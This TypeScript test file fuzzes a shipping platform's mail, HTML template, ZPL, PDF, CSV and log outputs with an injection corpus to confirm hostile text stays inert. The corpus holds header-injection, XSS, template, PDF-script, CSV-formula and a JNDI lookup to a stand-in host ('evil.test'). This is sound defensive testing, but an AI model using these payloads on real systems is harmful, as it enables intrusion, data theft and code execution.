/**
 * Hostile text in every field that goes into something with a grammar of its own: mail headers, HTML, templates, ZPL, PDF, CSV and
 * the log. What comes out is read by a parser of that grammar: the text is text there, whole, and nothing else has changed.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import type { AnyElysia } from "elysia";
import PostalMime, { type Email } from "postal-mime";
import { type Benchmarks, openBenchmarks } from "#analytics/benchmarks.ts";
import { createLog } from "#core/platform/process/log.ts";
import type { Running } from "#core/runtime/runtime.ts";
import { createPanelApp } from "#panel/server/app.ts";
import { unguarded } from "#panel/server/http/csv-text.ts";
import { startNotify } from "#processors/notify/start.ts";
import { CONSIGNEE, labelBody, labelSetup } from "#test/support/data/label-setup.ts";
import { dice } from "#test/support/data/schema-draws.ts";
import { eventually } from "#test/support/eventually.ts";
import { RUN_MS, startMeasuring } from "#test/support/measured.ts";
import { item, openTestApi, type TestApi } from "#test/support/product/api.ts";
import { PANEL_TOKEN } from "#test/support/product/product.ts";
import { pdfInfo, pdfText } from "#test/support/rendered-label.ts";
import { type MailServer, startMailServer } from "#test/support/servers/mail-server.ts";

/** A new one every run; put a printed one here to repeat its run. */
const SEED = Date.now() & 0x7fffffff;
/** Each is text that one of the sinks would take for more than text. */
const CORPUS = [
  ...["a\r\nBcc: thief@evil.test", "a\nSubject: other", "a\r\n\r\n<b>body</b>", "=?utf-8?B?QmNj?="],
  ...['"Thief" <thief@evil.test>', "a, thief@evil.test", "a\u2028Bcc: b", "\u0000\u0007\u001b[31m"],
  ...["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</p></a><iframe>", "<!--"],
  ...["&lt;b&gt;", "javascript:alert(1)", "<style>*{}</style>", "]]>", "' onclick='x"],
  ...[
    "{{consignee.email}}",
    "{{custom1}}",
    "{{{custom2}}}",
    "\u0024{7*7}",
    "<%= 7*7 %>",
    "{{constructor}}",
  ],
  ...["^XZ^XA^FDx^FS", "~JR", "^FS^GB800,800,800^FS", "_5E", "^CC+", "\\&", "a^FH\\^FD_7E"],
  ...[") Tj ET BT (", "endstream endobj", "<< /JS (app.alert(1)) >>", "\\)\\(", "%%EOF"],
  ...[
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=1+1",
    '=HYPERLINK("http://x")',
    'a","b',
    "a;b",
  ],
  ...[
    '{"level":60}',
    '\n{"level":60,"msg":"forged"}',
    "%0a%0d",
    "\u0024{jndi:ldap://evil.test/x}",
    "__proto__",
  ],
];
/** Fields of a label and codes of a catalogue have at least so many characters. */
const LENGTH = 50;
/** Drawn into one text. */
const PIECES = 3;

let api: TestApi;
let pdf: string;
let zpl: string;
let mails: MailServer;
let notify: Running;
let benchmarks: Benchmarks;
let panel: AnyElysia;
const lines: string[] = [];

beforeAll(async () => {
  const setup = labelSetup();
  const [main] = setup.companies?.[0]?.channels ?? [];
  const subject = "{{custom1}} for {{consignee.name}}";
  const body = '<p id="one">{{custom1}}</p><a href="https://shop.test/">{{consignee.name}}</a>';
  const templates = [{ event: "review", language: "it" as const, subject, body }];
  if (main) main.emails = { managed: true, from: "Acme <noreply@acme.test>", templates };
  api = await openTestApi(setup);
  [pdf, zpl] = [await api.token("key_acme_main"), await api.token("key_acme_outlet")];
  mails = await startMailServer();
  const { runtime } = api;
  const log = createLog("trace", { write: (line: string) => void lines.push(line) });
  const config = { ...runtime.config, smtpUrl: mails.url };
  notify = await startNotify({ ...runtime, config, log });
  benchmarks = await openBenchmarks(runtime.config);
  panel = createPanelApp({ ...runtime, log }, benchmarks);
}, 300_000);

afterAll(async () => {
  await notify.stop();
  await Promise.all([mails.stop(), benchmarks.close()]);
  await api.end();
});

/** The corpus, then texts drawn from it for as long as the run goes on. */
function* texts(): Generator<string> {
  const until = performance.now() + RUN_MS / TESTS.length;
  const g = dice(SEED);
  yield* CORPUS;
  while (performance.now() < until) {
    const pieces = Array.from({ length: 1 + g.below(PIECES) }, () => g.pick(CORPUS));
    yield [...pieces.join(g.pick(["", " ", "\n"]))].slice(0, LENGTH).join("");
  }
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: what no line of text has
const CONTROLS = /[\u0000-\u001f\u007f]+/g;
/** As it is compared: sinks break lines and leave out what cannot be printed. */
const squeezed = (text: string) => text.replace(CONTROLS, "").replace(/\s+/g, "");
const ENTITIES = { "&lt;": "<", "&gt;": ">", "&quot;": '"', "&#x27;": "'", "&amp;": "&" } as const;
const decoded = (html: string) =>
  html.replace(/&(?:lt|gt|quot|#x27|amp);/g, (one) => ENTITIES[one as keyof typeof ENTITIES]);

interface Markup {
  readonly elements: readonly string[];
  readonly text: string;
}

function readHtml(html: string): Markup {
  const elements: string[] = [];
  let text = "";
  new HTMLRewriter()
    .on("*", {
      element({ tagName, attributes }) {
        elements.push([tagName, ...[...attributes].flat()].join(" "));
      },
    })
    .onDocument({
      text(chunk) {
        text += chunk.text;
      },
    })
    .transform(html);
  return { elements, text: decoded(text) };
}

let counter = 0;

async function mailWith(text: string): Promise<Email> {
  counter += 1;
  const consignee = { name: text, email: `ada+${counter}@client.test` };
  const call = (path: string, body: object) => api.call("POST", path, { token: pdf, body });
  const made = await call("/v2/shipments", { shipments: [item(`INJ-${counter}`, { consignee })] });
  const [{ id }] = made.body.items;
  const body = { event: "review", variables: { custom1: text }, language: "it" };
  expect((await call(`/v2/shipments/${id}/notifications`, body)).status).toBe(202);
  const isIt = ({ to }: { readonly to: readonly string[] }) => to.includes(consignee.email);
  const { raw } = await eventually(() => mails.received.find(isIt), `the mail about ${text}`);
  return PostalMime.parse(raw);
}

const namesOf = ({ headers }: Email) => headers.map(({ key }) => key).toSorted();

/** @returns texts that were tried */
async function tryMails(): Promise<number> {
  const harmless = await mailWith("harmless");
  let tried = 0;
  for (const text of texts()) {
    tried += 1;
    const mail = await mailWith(text);
    expect(namesOf(mail)).toEqual(namesOf(harmless));
    expect(mail.to).toEqual([{ address: `ada+${counter}@client.test`, name: "" }]);
    expect([mail.from?.address, mail.cc, mail.bcc, mail.attachments]).toEqual([
      ...(["noreply@acme.test", harmless.cc, harmless.bcc] as const),
      [],
    ]);
    expect(squeezed(mail.subject ?? "")).toBe(squeezed(`${text} for ${text}`));
    const { elements, text: shown } = readHtml(mail.html ?? "");
    expect(elements).toEqual(readHtml(harmless.html ?? "").elements);
    expect(squeezed(shown)).toBe(squeezed(text + text));
  }
  return tried;
}

const COMMANDS = new Set([
  "XA",
  "CI",
  "PW",
  "LL",
  "FO",
  "GB",
  "FS",
  "A0",
  "FH",
  "FD",
  "BY",
  "BC",
  "XZ",
]);

/** What the fields of a label print; throws where a command stands that is none of ours. */
function readZpl(text: string): string {
  const commands = [...text.matchAll(/([\^~])(..)([^^~]*)/gs)];
  for (const [, prefix, name = ""] of commands) {
    if (prefix !== "^" || !COMMANDS.has(name)) throw new Error(`a command ${prefix}${name}`);
  }
  const names = commands.map(([, , name]) => name);
  expect([names[0], names.lastIndexOf("XA"), names.indexOf("XZ")]).toEqual([
    "XA",
    0,
    names.length - 1,
  ]);
  return commands
    .filter(([, , name]) => name === "FD")
    .map(([, , , data = ""]) =>
      data.replace(/_([0-9A-F]{2})/g, (_, hex: string) =>
        String.fromCharCode(Number.parseInt(hex, 16)),
      ),
    )
    .join("");
}

/** Only these come out as they are: others are transliterated. */
const isPlain = (text: string) => /^[ -~]*$/.test(text);

async function tryLabels(): Promise<number> {
  let tried = 0;
  for (const text of texts()) {
    tried += 1;
    const body = { consignee: { ...CONSIGNEE, name: text }, content: "books" };
    const [page, code] = await Promise.all(
      [pdf, zpl].map((token) => api.call("POST", "/v2/labels", { token, body: labelBody(body) })),
    );
    expect([page?.status, code?.status]).toEqual([201, 201]);
    const bytes = Buffer.from(page?.body.labels[0], "base64");
    expect(pdfInfo(bytes)).toMatchObject({ pages: 1, hasScript: false });
    const printed = [pdfText(bytes), readZpl(code?.body.labels[0])];
    for (const one of printed) if (isPlain(text)) expect(squeezed(one)).toContain(squeezed(text));
  }
  return tried;
}

async function askPanel(method: string, path: string, body?: object) {
  const headers = { authorization: `Bearer ${PANEL_TOKEN}`, "content-type": "application/json" };
  const url = `http://localhost/panel/api/${path}`;
  const text = body ? JSON.stringify(body) : null;
  return panel.handle(new Request(url, { method, headers, body: text }));
}

async function tryCsvAndLog(): Promise<number> {
  const kept: string[] = [];
  for (const text of texts()) {
    const mapping = { description: text, terminal: false, status: "IN_TRANSIT", statusDetail: 0 };
    const { status } = await askPanel("PUT", `couriers/BRT_ITA/catalogue/C${kept.length}`, mapping);
    expect(status).toBe(200);
    kept.push(text);
    // What a path names goes into the log, and a request id into every line of its request.
    await askPanel(
      "DELETE",
      `channels/${encodeURIComponent(text)}/boxes/${encodeURIComponent(text)}`,
    );
  }
  const csv = await (await askPanel("GET", "couriers/BRT_ITA/catalogue/file")).text();
  const [head, ...rows] = parse(csv, { bom: true }) as string[][];
  const own = rows.filter(([code = ""]) => /^C\d+$/.test(code));
  expect(own.map(([, cell = ""]) => unguarded(cell))).toEqual(kept);
  for (const row of own) {
    expect(row.length).toBe(head?.length ?? 0);
    expect(row.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  }
  expect(lines.length).toBeGreaterThan(kept.length);
  for (const line of lines) {
    expect(line.indexOf("\n")).toBe(line.length - 1);
    expect(line.slice(0, -1).match(CONTROLS)).toBeNull();
    expect(JSON.parse(line).msg).not.toBe("forged");
  }
  return kept.length;
}

const TESTS = [
  ["mails: headers, subject, HTML and templates", tryMails],
  ["labels: PDF and ZPL", tryLabels],
  ["a catalogue as CSV, and the log", tryCsvAndLog],
] as const;

test.each(TESTS)(
  "hostile text is text in %s",
  async (sink, run) => {
    const measuring = startMeasuring("Bad input", `injection into ${sink}`);
    process.stderr.write(`injection: seed ${SEED}\n`);
    const inputs = await run();
    await measuring.done({ inputs, further: { "texts that became more than text": 0 } });
  },
  3_600_000,
);
